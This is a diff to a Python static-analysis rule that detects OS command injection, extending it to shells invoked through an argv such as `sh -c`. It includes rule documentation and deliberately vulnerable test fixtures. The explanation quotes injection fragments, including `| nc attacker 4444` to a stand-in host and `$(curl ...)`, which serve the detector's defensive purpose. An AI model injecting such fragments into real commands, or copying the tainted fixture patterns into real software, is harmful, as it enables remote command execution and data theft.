@@ -4,7 +4,9 @@ A string handed to a shell is parsed by the shell, so `;`, `|`, `$(...)` in the 
 commands. Constant commands are clean; `shlex.quote` sanitises; data flow sets confidence.
 Without a shell, only a tainted *program* (`subprocess.run([prog, ...])`) is reported: a
 variable program name of unknown origin is ordinary code, and tainted arguments of a fixed
-program are argument injection (CWE-88), a different and far rarer problem.
+program are argument injection (CWE-88), a different and far rarer problem. The exception is
+a shell named in the argv (`["bash", "-c", script]`): its script is a shell command. The
+environment is a source at medium confidence only, so it never makes a program name reportable.
 """
 
 from __future__ import annotations
@@ -15,6 +17,7 @@ from ..analysis.nodes import argument, is_false, keyword_arg
 from ..analysis.sinks import taint_verdict
 from ..context import Match
 from ..model import Category, Confidence, Report, Rule, Severity
+from ._shell_argv import argv_items, shell_script
 
 SHELL_CALLS = frozenset(
     {f"os.{name}" for name in ("system", "popen", "popen2", "popen3", "popen4")}
@@ -41,11 +44,13 @@ def _command(match: Match, name: str) -> Node | None:
     return command
 
 
-def _program(match: Match, name: str) -> Node | None:
-    """The program a no-shell call runs: the first list item, or the lone string."""
+def _program(match: Match, name: str, argv: list[Node] | None) -> Node | None:
+    """The program a no-shell call runs: the first item of the argv, or the lone string."""
     args = match.node("args")
     if name.startswith("os.spawn"):
         return argument(args, 1, "file")
+    if name in SUBPROCESS and argv is not None:
+        return argv[0] if argv else None
     command = argument(args, 0, "args" if name in SUBPROCESS else None)
     if command is not None and command.type in ("list", "tuple"):
         return command.named_children[0] if command.named_children else None
@@ -64,9 +69,20 @@ def runs_untrusted_command(match: Match) -> Report | None:
             sanitizers=("shlex.quote",),
             consequence=_CONSEQUENCE,
         )
+    argv = argv_items(match, name, SUBPROCESS)
+    script = shell_script(argv) if argv else None
+    if script is not None:
+        return taint_verdict(
+            match,
+            script[1],
+            f"a shell script via `{script[0]}`",
+            environment=True,
+            sanitizers=("shlex.quote",),
+            consequence=_CONSEQUENCE,
+        )
     verdict = taint_verdict(
         match,
-        _program(match, name),
+        _program(match, name, argv),
         f"the program name of `{name}`",
         environment=True,
         report_unknown=False,
@@ -94,10 +110,16 @@ pass a string to `/bin/sh`. If any part of that string comes from a user, `; rm 
 `| nc attacker 4444` or `$(curl ...)` in it are commands too. A tainted program name
 (`subprocess.run([request.args["tool"], ...])`) lets the caller pick the binary.
 
-Confidence is high when request data, `input()`, `sys.argv` or the environment (CI and container
-settings are often attacker-influenced) reaches the command, and medium when a piece of a
-shell command has unknown origin. Constant commands are not reported. Without a shell only a
-tainted program name is reported; an unknown one is everyday code.
+`subprocess.run(["sh", "-c", "convert " + name])` has no `shell=True` but runs a shell all the
+same: the item after `-c` of a `sh`/`bash`/`zsh` argv (`/c` for `cmd`, `-Command` for
+PowerShell) is judged as a shell command.
+
+Confidence is high when request data, `input()` or `sys.argv` reaches the command. It is
+medium when a piece of a shell command has unknown origin or comes from the environment
+(`os.environ`, `os.getenv`): CI jobs and containers can set it, but usually the user running
+the program did. Constant commands are not reported. Without a shell only a program name
+from request data, `input()` or `sys.argv` is reported; one of unknown origin or from the
+environment (`os.path.join(os.environ["ProgramFiles"], "tool.exe")`) is everyday code.
 
 ## How to fix
 Pass a list of arguments without a shell: `subprocess.run(["ping", "-c", "1", host], check=True)`.
@@ -162,9 +184,19 @@ def backup(target):
 os.system("convert " + sys.argv[1] + " out.png")
 # ruleid: os-command-injection
 subprocess.call("make " + os.environ["TARGET"], shell=True)
-# `sh -c` through the exec family hides the shell inside an argument, which is not followed.
-# todoruleid: os-command-injection
+# ruleid: os-command-injection
 os.execl("/bin/sh", "sh", "-c", sys.argv[1])
+# ruleid: os-command-injection
+subprocess.run(["sh", "-c", "convert " + sys.argv[1] + " out.png"])
+argv = ["/bin/bash", "-lc", f"tar xf {sys.argv[2]}"]
+# ruleid: os-command-injection
+Popen(argv)
+# ok: os-command-injection
+subprocess.run(["sh", "-c", "convert in.png out.png"])
+# ok: os-command-injection
+subprocess.run(["sh", "-c", "convert " + shlex.quote(sys.argv[1])])
+# ok: os-command-injection
+subprocess.check_output([os.path.join(os.environ["ProgramFiles"], "vswhere.exe"), "-latest"])
 import settings
 # A constant of another module is of unknown origin here (no inter-module analysis).
 # todook: os-command-injection
